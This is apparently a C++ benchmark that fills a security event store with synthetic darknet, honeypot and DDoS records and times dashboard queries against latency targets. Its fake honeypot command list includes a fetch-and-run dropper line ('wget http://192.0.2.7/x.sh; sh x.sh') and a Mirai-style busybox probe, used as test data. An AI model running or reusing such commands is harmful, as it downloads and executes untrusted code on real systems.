// Dashboard query benchmark (issue 13 "Speed"): fills a store with N events (default 10 million,
// a month of a busy darknet and honeypots) through SqliteStore, as the live sink writes them (so
// the triggers of migration 0006 keep the rollups), then times what the dashboard's REST API asks
// of DashboardReader: the overview, every top list, and a search by prefix and time range, each
// over the last day and over the whole month, `--rounds` times; reports medians against the
// targets (overview and top lists < 200 ms, search < 500 ms) and the fill rate.
//
//   dashboard_bench --db PATH [--events N] [--rounds R] [--reuse]
//
// --reuse skips the fill when PATH already holds events (the fill takes minutes at 10M).

#include <algorithm>
#include <chrono>
#include <cstdio>
#include <filesystem>
#include <functional>
#include <random>
#include <string>
#include <vector>

#include <fmt/format.h>

#include "common/prefix.h"
#include "store/dashboard_reader.h"
#include "store/sqlite_store.h"

namespace {

using namespace kansoku;
using Clock = std::chrono::steady_clock;

constexpr Timestamp kDay = int64_t{24} * 3600 * kMicrosPerSecond;
constexpr Timestamp kEnd = 1'796'083'200'000'000; // the month ends on a day boundary
constexpr Timestamp kBegin = kEnd - 30 * kDay;

std::string v4(uint32_t a) {
    return fmt::format("{}.{}.{}.{}", a >> 24, (a >> 16) & 255, (a >> 8) & 255, a & 255);
}

/// One event of the month's mix: half scans (500k sources, skewed), 30% port statistics (2,000 ports),
/// the rest honeypot logins, commands, sessions, and a few attacks, samples and alerts.
Event makeEvent(std::mt19937_64& rng, Timestamp ts) {
    static const char* kTools[] = {"mirai", "mirai", "mirai", "zmap", "masscan", "nmap", "unknown", "unknown"};
    static const char* kUsers[] = {"root", "admin", "user", "support", "guest", "ubnt", "pi", "test"};
    static const char* kCommands[] = {"enable",
                                      "system",
                                      "shell",
                                      "sh",
                                      "cat /proc/mounts; /bin/busybox ECCHI",
                                      "cd /tmp; wget http://192.0.2.7/x.sh; sh x.sh",
                                      "uname -a",
                                      "free -m"};
    const uint64_t r = rng();
    const uint64_t dice = r % 1000;
    // Sources: a skewed draw (a few very busy scanners, a long tail) in 100.64.0.0/10-like space.
    const uint32_t source =
        0x64400000u + static_cast<uint32_t>(std::min<uint64_t>((r >> 20) % 500000, (r >> 40) % 500000));
    Event e;
    e.ts = ts;
    e.sensor = "bench";
    if (dice < 500) {
        e.type = "darknet.scan";
        const int port = (r >> 8) % 4 == 0 ? static_cast<int>((r >> 12) % 65535) + 1 : ((r >> 12) % 2 ? 23 : 445);
        const int64_t packets = static_cast<int64_t>((r >> 30) % 5000) + 1;
        e.add("src", v4(source));
        e.add("proto", "tcp");
        e.add("packets", packets);
        e.add("dst_count", packets);
        e.add("port_count", 1);
        e.add("dst_ports", nlohmann::ordered_json::array({{{"port", port}, {"packets", packets}}}));
        e.add("tool", kTools[(r >> 50) % 8]);
        e.add("scan_kind", "horizontal");
        e.add("spoofed", false);
    } else if (dice < 800) {
        e.type = "darknet.port_stats";
        e.add("proto", "tcp");
        e.add("port", static_cast<int>((r >> 8) % 2000) + 1);
        e.add("minute", formatRfc3339(ts - ts % 60'000'000));
        e.add("packets", static_cast<int64_t>((r >> 30) % 1000));
        e.add("sources", static_cast<int64_t>((r >> 40) % 50));
    } else if (dice < 880) {
        e.type = "honeypot.login";
        e.add("session", fmt::format("{:016x}", r));
        e.add("src", v4(source));
        e.add("src_port", 40000);
        e.add("dst_port", 2323);
        e.add("protocol", "telnet");
        e.add("username", kUsers[(r >> 8) % 8]);
        e.add("password", kUsers[(r >> 16) % 8]);
        e.add("success", (r >> 24) % 10 == 0);
    } else if (dice < 940) {
        e.type = "honeypot.command";
        e.add("session", fmt::format("{:016x}", r));
        e.add("src", v4(source));
        e.add("dst_port", 2323);
        e.add("protocol", "telnet");
        e.add("input", kCommands[(r >> 8) % 8]);
    } else if (dice < 990) {
        e.type = "honeypot.session";
        e.add("session", fmt::format("{:016x}", r));
        e.add("src", v4(source));
        e.add("dst_port", 2323);
        e.add("protocol", "telnet");
        e.add("close_reason", "peer_closed");
    } else if (dice < 995) {
        e.type = "ddos.attack";
        e.add("victim", v4(0xC6120000u + static_cast<uint32_t>((r >> 8) % 65536)));
        e.add("vector", "syn_flood");
        e.add("packets", 1000);
        e.add("ports", nlohmann::ordered_json::array({{{"port", 80}, {"packets", 1000}}}));
    } else if (dice < 998) {
        e.type = "sample";
        e.add("sha256", fmt::format("{:064x}", r));
        e.add("size", 1000);
    } else {
        e.type = "alert";
        e.add("kind", "darknet.outbreak");
        e.add("severity", "medium");
        e.add("subject", "tcp/23");
    }
    return e;
}

double median(std::vector<double> v) {
    std::sort(v.begin(), v.end());
    return v.empty() ? 0 : v[v.size() / 2];
}

int fail(const std::string& message) {
    std::fprintf(stderr, "dashboard_bench: %s\n", message.c_str());
    return 1;
}

} // namespace

int main(int argc, char** argv) {
    std::string db;
    int64_t events = 10'000'000;
    int rounds = 5;
    bool reuse = false;
    for (int i = 1; i < argc; ++i) {
        const std::string arg = argv[i];
        if (arg == "--db" && i + 1 < argc) {
            db = argv[++i];
        } else if (arg == "--events" && i + 1 < argc) {
            events = std::stoll(argv[++i]);
        } else if (arg == "--rounds" && i + 1 < argc) {
            rounds = std::stoi(argv[++i]);
        } else if (arg == "--reuse") {
            reuse = true;
        } else {
            std::fprintf(stderr, "usage: dashboard_bench --db PATH [--events N] [--rounds R] [--reuse]\n");
            return 2;
        }
    }
    if (db.empty()) {
        return fail("--db PATH is required");
    }
    auto opened = store::SqliteStore::open(db, store::OpenMode::ReadWriteCreate);
    if (!opened) {
        return fail(opened.error().message);
    }
    auto& store = **opened;
    auto stored = store.countEvents({});
    if (!stored) {
        return fail(stored.error().message);
    }
    if (!(reuse && *stored > 0)) {
        if (*stored > 0) {
            return fail(db + " already holds events (use --reuse to time it as it is, or remove it)");
        }
        std::mt19937_64 rng(13);
        const auto started = Clock::now();
        constexpr int64_t kBatch = 100'000;
        for (int64_t done = 0; done < events;) {
            if (!store.begin()) {
                return fail("begin failed");
            }
            for (int64_t i = 0; i < kBatch && done < events; ++i, ++done) {
                // Time order, as the sink writes: the month spread evenly.
                const Timestamp ts = kBegin + (kEnd - kBegin) / events * done;
                if (auto appended = store.append(makeEvent(rng, ts)); !appended) {
                    return fail(appended.error().message);
                }
            }
            if (auto committed = store.commit(); !committed) {
                return fail(committed.error().message);
            }
            if (done % 1'000'000 == 0) {
                std::fprintf(stderr, "filled %lld events\n", static_cast<long long>(done));
            }
        }
        const double seconds = std::chrono::duration<double>(Clock::now() - started).count();
        std::printf("fill: %lld events in %.1f s (%.0f events/s, triggers and indexes of migration 0006 included)\n",
                    static_cast<long long>(events), seconds, static_cast<double>(events) / seconds);
        stored = static_cast<uint64_t>(events);
    }
    std::printf("database: %s, %llu events, %.0f MiB\n", db.c_str(), static_cast<unsigned long long>(*stored),
                static_cast<double>(std::filesystem::file_size(db)) / (1 << 20));

    auto reader = store::DashboardReader::open(db);
    if (!reader) {
        return fail(reader.error().message);
    }
    auto& r = **reader;
    struct Case {
        std::string name;
        double target_ms;
        std::function<bool()> run;
    };
    std::vector<Case> cases;
    const auto prefix = *Prefix::parse("100.64.0.0/16");
    for (const auto& [label, range] : {std::pair{std::string("day"), store::TimeRange{kEnd - kDay, kEnd}},
                                       std::pair{std::string("month"), store::TimeRange{kBegin, kEnd}}}) {
        cases.push_back({"overview/" + label, 200, [&r, range] {
                             return r.countsByType(range, nullptr) && r.distinctSources(range, nullptr) &&
                                    r.probeTotals(range) && r.infectedHostCount(range, nullptr);
                         }});
        for (const auto kind :
             {store::TopKind::Sources, store::TopKind::Ports, store::TopKind::Asns, store::TopKind::Countries,
              store::TopKind::Tools, store::TopKind::Families, store::TopKind::Credentials, store::TopKind::Commands}) {
            cases.push_back({fmt::format("top {}/{}", store::topKindName(kind), label), 200,
                             [&r, range, kind] { return static_cast<bool>(r.top(kind, range, 10, nullptr)); }});
        }
        cases.push_back({"search prefix+time/" + label, 500, [&r, range, prefix] {
                             store::EventSearch search;
                             search.addr_lo =
                                 std::string(reinterpret_cast<const char*>(prefix.network().bytes().data()), 16);
                             search.addr_hi =
                                 std::string(reinterpret_cast<const char*>(prefix.last().bytes().data()), 16);
                             search.from = range.from;
                             search.to = range.to;
                             search.limit = 100;
                             auto page = r.search(search, nullptr);
                             return page && !page->events.empty();
                         }});
        cases.push_back({"series probes 5m/" + label, 200, [&r, range] {
                             return static_cast<bool>(
                                 r.probeSeries(range, 300 * kMicrosPerSecond * (range.to - range.from > kDay ? 12 : 1),
                                               std::nullopt, std::nullopt, false));
                         }});
    }
    int missed = 0;
    std::printf("%-32s %10s %10s %8s\n", "query", "median ms", "target ms", "");
    for (const auto& c : cases) {
        std::vector<double> times;
        for (int i = 0; i < rounds; ++i) {
            const auto started = Clock::now();
            if (!c.run()) {
                return fail(c.name + " failed");
            }
            times.push_back(std::chrono::duration<double, std::milli>(Clock::now() - started).count());
        }
        const double m = median(times);
        const bool ok = m < c.target_ms;
        missed += ok ? 0 : 1;
        std::printf("%-32s %10.1f %10.0f %8s\n", c.name.c_str(), m, c.target_ms, ok ? "PASS" : "FAIL");
    }
    std::printf("%d of %zu queries missed their target\n", missed, cases.size());
    return 0;
}
